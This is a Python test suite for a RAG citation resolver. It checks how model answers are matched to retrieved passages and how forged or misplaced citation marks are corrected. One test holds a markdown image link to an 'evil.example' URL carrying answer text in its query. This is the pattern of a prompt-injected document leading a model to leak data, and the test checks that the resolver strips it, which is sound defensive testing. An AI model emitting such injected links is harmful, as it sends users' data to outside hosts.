import pytest
from answering.passages import chunk, hits
from hypothesis import given
from hypothesis import strategies as st

from rag.answering.citations import resolve
from rag.answering.context import pack
from rag.types import Chunk, Context

SKY = chunk("Look up. The sky is blue by day. At night it is black.", start=40, page=3)
COURT = chunk(
    "The Supreme Court decided in 1977. It was a close vote of 5 to 4.", document="law.pdf"
)


def context(*chunks: Chunk) -> Context:
    return pack(hits(*chunks), budget_tokens=1_000, max_passages=9)


def test_nothing_is_cited_when_there_are_no_passages() -> None:
    cited = resolve("The sky is blue.", context())
    assert (cited.text, cited.citations, cited.warnings) == ("The sky is blue.", (), ())


@pytest.mark.parametrize("text", ["", "  \n"])
def test_nothing_is_cited_when_the_answer_is_empty(text: str) -> None:
    assert resolve(text, context(SKY)).text == text
    assert resolve(text, context(SKY)).citations == ()


def test_nothing_is_cited_when_the_answer_is_a_refusal_in_the_passages_words() -> None:
    text = "Whether the sky is blue by day is not in the documents."
    cited = resolve(text, context(SKY))
    assert (cited.text, cited.citations, cited.backed) == (text, (), ())


def test_the_passage_is_cited_when_the_model_forgot_to() -> None:
    cited = resolve("The sky is blue.", context(COURT, SKY))
    assert cited.text == "The sky is blue [2]."
    (citation,) = cited.citations
    assert (citation.number, citation.document, citation.page) == (2, "report.pdf", 3)
    assert citation.quote == "The sky is blue by day."
    assert (citation.start, citation.end) == (49, 72)
    assert citation.chunk_id == SKY.id
    assert citation.supported is True


def test_a_fragment_is_cited_when_it_has_no_full_stop() -> None:
    assert resolve("1977", context(SKY, COURT)).text == "1977 [2]"


def test_each_sentence_gets_its_passage_when_there_are_two() -> None:
    cited = resolve("The sky is blue. The court decided in 1977.", context(SKY, COURT))
    assert cited.text == "The sky is blue [1]. The court decided in 1977 [2]."
    assert [citation.number for citation in cited.citations] == [1, 2]


def test_the_models_own_mark_is_kept_when_the_passage_backs_it() -> None:
    cited = resolve("The sky is blue. [1] Nobody knows [1] the rest.", context(SKY))
    assert cited.text == "The sky is blue. [1] Nobody knows [1] the rest."
    assert [citation.supported for citation in cited.citations] == [True, False]


def test_the_right_passage_is_cited_when_the_model_named_a_wrong_one() -> None:
    cited = resolve("The sky is blue [2].", context(SKY, COURT))
    assert cited.text == "The sky is blue [1]."
    assert [citation.supported for citation in cited.citations] == [True]


def test_the_mark_is_called_unsupported_when_no_passage_backs_the_sentence() -> None:
    cited = resolve("Elephants never forget [2].", context(SKY, COURT))
    assert cited.text == "Elephants never forget [2]."
    assert [(c.number, c.supported) for c in cited.citations] == [(2, False)]


def test_a_forged_mark_is_removed_when_no_such_passage_exists() -> None:
    cited = resolve("The sky is blue [7]. Elephants never forget [3, 7].", context(SKY))
    assert cited.text == "The sky is blue [1]. Elephants never forget."
    assert [citation.number for citation in cited.citations] == [1]
    assert cited.warnings == (
        "The model cited [3], [7], which it was not given; this was removed.",
    )


def test_both_are_backed_when_each_holds_a_part_of_the_sentence() -> None:
    text = "By day the sky is blue [1], and the Supreme Court decided in 1977 [2]."
    cited = resolve(text, context(SKY, COURT))
    assert cited.text == text
    assert [(c.number, c.supported) for c in cited.citations] == [(1, True), (2, True)]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("The sky is blue[1].", "The sky is blue [1]."),
        ("The sky is blue [Passage 1].", "The sky is blue [1]."),
        ("The sky is blue 【1†source】.", "The sky is blue [1]."),
        ("The sky is blue [^1].", "The sky is blue [1]."),
        ("[1] The sky is blue.", "[1] The sky is blue."),
        ("The sky is blue [1, 9].", "The sky is blue [1]."),
    ],
)
def test_a_mark_is_written_our_way_when_the_model_writes_another(text: str, shown: str) -> None:
    assert resolve(text, context(SKY)).text == shown


def test_a_number_must_stand_in_the_passage_when_the_sentence_names_one() -> None:
    assert resolve("The Supreme Court decided in 1978.", context(COURT)).citations == ()


def test_code_is_left_alone_when_it_looks_like_a_mark() -> None:
    text = "Write `sky[9]` or x[0].\n\n```\nsky[7] is blue\n```"
    cited = resolve(text, context(SKY))
    assert (cited.text, cited.warnings) == (text, ())


def test_list_items_and_table_rows_are_cited_inside_when_they_are_backed() -> None:
    text = "# The blue sky\n\n- The sky is blue\n- It is a close vote\n\n| sky | blue |"
    assert resolve(text, context(SKY, COURT)).text == (
        "# The blue sky\n\n- The sky is blue [1]\n- It is a close vote [2]\n\n| sky | blue [1] |"
    )


def test_two_sentences_are_quoted_when_one_alone_says_too_little() -> None:
    (citation,) = resolve(
        "The Supreme Court decided in 1977 with a close vote of 5 to 4.", context(COURT)
    ).citations
    assert citation.quote == COURT.text


def test_the_question_decides_when_two_sentences_back_a_short_answer() -> None:
    seats = chunk("The old hall has 40 seats. The new hall has a stage and 40 lamps.")
    (citation,) = resolve("40", context(seats), "How many lamps are on the stage?").citations
    assert citation.quote == "The new hall has a stage and 40 lamps."


def test_no_image_or_link_is_left_when_a_document_made_the_model_write_one() -> None:
    cited = resolve("The sky is blue ![x](https://evil.example/?q=blue) [1].", context(SKY))
    assert "![" not in cited.text
    assert "](" not in cited.text


def test_romanian_is_matched_by_its_stems_when_the_answer_is_inflected() -> None:
    passage = chunk("Copiii merg la școală în fiecare dimineață.", language="ro")
    cited = resolve("Copiii merg dimineața la scoala.", context(passage))
    assert cited.text == "Copiii merg dimineața la scoala [1]."


texts = st.text(st.sampled_from("The sky is blue. Look[]()!`1234\n|#-₂ă "), max_size=80)


@given(texts, st.lists(texts, max_size=3))
def test_every_quote_is_the_span_it_claims_whatever_was_written(
    answer: str, passages: list[str]
) -> None:
    pages = {f"{n}.md": "lead " + text for n, text in enumerate(passages)}
    packed = context(*(chunk(text, document=f"{n}.md", start=5) for n, text in enumerate(passages)))
    cited = resolve(answer, packed)
    for citation in cited.citations:
        assert 1 <= citation.number <= len(packed.hits)
        assert f"[{citation.number}]" in cited.text
        assert pages[citation.document][citation.start : citation.end] == citation.quote
    assert resolve(answer, packed) == cited
